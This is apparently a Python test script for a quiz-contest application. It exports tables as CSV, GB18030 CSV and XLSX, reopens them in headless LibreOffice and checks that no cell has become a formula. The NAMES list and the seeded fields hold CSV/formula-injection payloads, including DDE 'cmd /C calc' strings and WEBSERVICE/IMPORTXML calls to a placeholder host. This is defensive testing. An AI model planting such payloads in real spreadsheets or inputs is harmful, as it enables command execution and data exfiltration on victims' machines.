#!/usr/bin/env python3
"""Opens every export in LibreOffice, headless, and reads it back with openpyxl.

Two hundred people enter under names that a careless export would let a spreadsheet calculate. Every
table is exported as CSV, GB18030 and XLSX; LibreOffice opens each and saves a workbook of its own. No
cell of these may be a formula, the workbooks' cells must be what openpyxl read before, and the names
must be there letter by letter. Not part of scripts/test: LibreOffice is large.

    apt-get install --no-install-recommends libreoffice-calc
    .build-python/bin/python3 Tests/Exports/libreoffice_test.py .build/release/safetyquiz
"""

import itertools
import os
import pathlib
import subprocess
import sys
import urllib.error

import openpyxl

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "Support"))

from played import Contest, questions  # noqa: E402

BEGINNINGS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "\"="]
BODIES = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x\",\"点\")", "WEBSERVICE(\"http://x\")",
          "SUM(1+1)*cmd|' /C calc'!A0", "IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "A1:B9",
          "2+5,\"x\"", "DDE(\"cmd\",\"/C calc\",\"x\")", ";=1", ",=1", "R1C1", "NOW()", "@SUM(1)",
          "-1+1", "+1", "=1", "1E9", "00123", "TRUE()"]
NAMES = [beginning + body for beginning, body in itertools.product(BEGINNINGS, BODIES)]


def cells(path):
    """Every sheet's cells as (sheet, row, column) → value; formulas end the test."""
    found = {}
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    raise SystemExit(f"{path}: {cell.coordinate} is a formula: {cell.value!r}")
                if cell.value is not None:
                    found[sheet.title, cell.row, cell.column] = cell.value
    return found


def convert(path, folder, *more):
    """The file as LibreOffice opens it, saved as a workbook."""
    target = os.path.join(folder, "opened")
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{folder}/profile",
                    *more, "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", target, path],
                   check=True, capture_output=True, timeout=180)
    name = os.path.splitext(os.path.basename(path))[0]
    return os.path.join(target, name + ".xlsx")


def main():
    tables = ["standings", "people", "attempts", "tallies", "items"]
    bank = [{**question, "stem": "=SUM(1)+" + question["stem"], "category": "@消防",
             "options": [sign + text for sign, text in zip("=+", question["options"])]}
            for question in questions(9, options=2)]
    contest = Contest(
        sys.argv[1], "sheets",
        {"title": "=1+1", "organiser": "@SUM(1)",
         "tracks": [{"name": "main", "paper": {"questions": 2}}]},
        bank=bank,
        units='代码,名称,上级代码,人数\nA,"=1+1",,\n001,"+A1",A,9\n002,"@NOW()",A,\n')
    place = contest.place
    with contest:
        folder, entered, refused = contest.folder, [], []
        for number, name in enumerate(NAMES):
            try:
                person = contest.enter(number, name=name, phone=f"1380000{number:04d}",
                                       unit=2 + number % 2)
                contest.attempt(person["session"], number)
                entered.append(name)
            except urllib.error.HTTPError as error:
                refused.append((name, error.read()))
        if refused:
            raise SystemExit(f"{len(refused)} names refused: {refused[0]}")
        contest.act("close")
        for table in tables:
            for form, ending in [("csv", "csv"), ("gb18030", "gb.csv"), ("xlsx", "xlsx")]:
                more = ["--phones", "--reason", "核对"] if table == "people" else []
                more += ["--of", "units"] if table == "tallies" else []
                contest.export(table, f"{table}.{ending}", "--format", form, *more)
        contest.run("report", "--contest", "sheets", "--output", place("report.xlsx"), *contest.to)
    count = 0
    for table in tables + ["report"]:
        path = place(table + ".xlsx")
        before, after = cells(path), cells(convert(path, folder))
        same = {key: after.get(key) for key in before}
        if same != before:
            key = next(key for key in before if same[key] != before[key])
            raise SystemExit(f"{path} {key}: {before[key]!r} became {same[key]!r}")
        count += len(before)
        if table == "people":
            values = set(map(str, before.values()))
            missing = [name for name in entered if name not in values]
            if missing or "13800000000" not in values:
                raise SystemExit(f"people.xlsx: {len(missing)} names are missing: {missing[:3]}")
    # 44,34 is a comma and quotes; 76 is UTF-8, 39 is GB18030 in LibreOffice's list of encodings.
    for ending, encoding in [("csv", 76), ("gb.csv", 39)]:
        for table in tables:
            path = place(f"{table}.{ending}")
            opened = cells(convert(path, folder, f"--infilter=CSV:44,34,{encoding}"))
            count += len(opened)
            if table == "people" and ending == "csv":
                texts = {str(value).lstrip("'\u200b") for value in opened.values()}
                missing = [name for name in entered if name.lstrip("'") not in texts]
                if missing:
                    raise SystemExit(f"{path}: {len(missing)} names are missing: {missing[:3]}")
    contest.remove()
    print(f"LibreOffice: {len(tables) * 3 + 1} files, {count} cells, {len(NAMES)} payloads, no formula")


main()
